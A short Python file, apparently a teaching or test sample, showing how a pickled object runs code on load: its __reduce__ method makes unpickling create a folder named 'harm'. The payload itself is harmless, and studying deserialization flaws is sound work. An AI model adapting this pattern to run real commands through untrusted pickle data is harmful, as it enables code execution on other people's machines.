"""A pickled object that runs code."""

import os


class Payload:
    """Unpickling this object makes a folder called `harm`."""

    def __reduce__(self):
        return (os.mkdir, ("harm",))
